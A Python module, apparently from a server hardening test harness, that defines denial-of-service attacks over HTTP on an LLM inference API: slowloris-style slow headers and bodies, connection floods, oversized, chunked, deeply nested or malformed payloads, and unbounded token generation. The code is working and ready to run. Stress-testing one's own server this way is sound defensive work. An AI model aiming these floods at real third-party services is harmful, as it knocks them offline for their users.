"""Attacks over HTTP for hostile.py; each is a function fn(address, count) that runs until killed."""

import json
import socket
import threading
import time

BODY = 15 << 20  # below --max-message-bytes
FOR_EVER = 4_000_000_000


def request(path, body, headers=()):
    if not isinstance(body, bytes):
        body = json.dumps(body).encode()
    lines = [f"POST {path} HTTP/1.1", "Host: localhost", "Content-Type: application/json",
             f"Content-Length: {len(body)}", *headers]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def dial(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=60)


def status(data):
    return data[9:12].decode(errors="replace") if data.startswith(b"HTTP/1.1 ") else "closed"


def again(data, threads=1, read_all=False):
    """Repeats a request on new connections."""
    def attack(address, count):
        sent = data() if callable(data) else data

        def loop():
            while True:
                try:
                    with dial(address) as peer:
                        peer.sendall(sent)
                        answer = peer.recv(1 << 16)
                        count(status(answer))
                        while read_all and answer:
                            answer = peer.recv(1 << 20)
                except OSError as error:
                    count(type(error).__name__)
                    time.sleep(0.005)
        workers = [threading.Thread(target=loop, daemon=True) for _ in range(threads)]
        for worker in workers:
            worker.start()
        time.sleep(3600)
    return attack


def held(data, n, more=None, pause=0.5):
    """So many connections that send it and stay, and then `more` from time to time; those that the
    server ends are made anew."""
    def attack(address, count):
        peers = []
        while True:
            alive = []
            for peer in peers:
                try:
                    if more:
                        peer.sendall(more)
                    alive.append(peer)
                except OSError:
                    peer.close()
                    count("ended")
            peers = alive
            while len(peers) < n:
                try:
                    peer = dial(address)
                    peer.sendall(data)
                    peers.append(peer)
                    count("opened")
                except OSError:
                    count("refused")
                    break
            time.sleep(pause)
    return attack


def half_closed(address, count):
    """Each connection requests an endless answer and closes its sending half."""
    body = request("/v1/completions", {"prompt": "x", "max_tokens": FOR_EVER, "stream": True,
                                       "ignore_eos": True})
    peers = []
    while True:
        try:
            peer = dial(address)
            peer.sendall(body)
            peer.shutdown(socket.SHUT_WR)
            peers.append(peer)
            count("half closed")
        except OSError:
            count("refused")
            time.sleep(0.01)
        while len(peers) > 500:
            peers.pop(0).close()


def completion(**fields):
    return request("/v1/completions", {"prompt": "def main():", "max_tokens": FOR_EVER,
                                       "stream": True, "ignore_eos": True, **fields})


def chunks_without_end():
    head = ("POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n").encode()
    return head + (b"10000\r\n" + b"x" * 0x10000 + b"\r\n") * 512


HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n"
ATTACKS = {
    "HTTP: slow headers": held(HEAD, 900, more=b"x: y\r\n"),
    "HTTP: 3,000 silent connections": held(b"", 3000),
    "HTTP: slow bodies": held(HEAD + b"Content-Type: application/json\r\nContent-Length: 16000000\r\n\r\n",
                              900, more=b" "),
    "HTTP: huge bodies": again(lambda: request("/v1/completions", b"x" * (20 << 20)), 4),
    "HTTP: bodies in chunks without end": again(chunks_without_end, 4),
    "HTTP: bad UTF-8": again(lambda: request("/v1/completions",
                                             b'{"prompt": "' + b"\xff" * BODY + b'"}'), 4),
    "HTTP: deep JSON": again(lambda: request("/v1/completions", b"[" * BODY), 4),
    "HTTP: wide JSON": again(lambda: request("/v1/completions",
                                             b'{"prompt": [' + b"[]," * (BODY // 3) + b"[]]}"), 4),
    "HTTP: many fields": again(lambda: request(
        "/ovq/v1/generate", b"{" + b",".join(b'"f%d":0' % i for i in range(1_000_000)) + b"}"), 4),
    "HTTP: half-closed connections": half_closed,
    "HTTP: pipelined requests, answers unread": held(
        b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200, 200,
        more=b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200),
    "HTTP: connections without end": again(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n", 8),
    "HTTP: 500 slow readers": held(completion(), 500),
    "HTTP: n=64, 258 log-probabilities": again(completion(n=64, logprobs=258), 1, read_all=True),
    "HTTP: 1,024 stop ids, n=64": again(completion(n=64, stop_token_ids=list(range(200)) * 5), 1,
                                        read_all=True),
    "HTTP: 16 times 1M tokens": again(lambda: completion(prompt=[1] * 1_000_000), 16, read_all=True),
    "HTTP: whole answers without end": again(completion(stream=False, n=64), 8, read_all=True),
    "HTTP: long texts to tokens": again(lambda: request("/tokenize", {"prompt": "x" * BODY}), 8,
                                        read_all=True),
    "HTTP: stored responses": again(lambda: request(
        "/v1/responses", {"input": "hi", "max_output_tokens": 1}), 8, read_all=True),
}
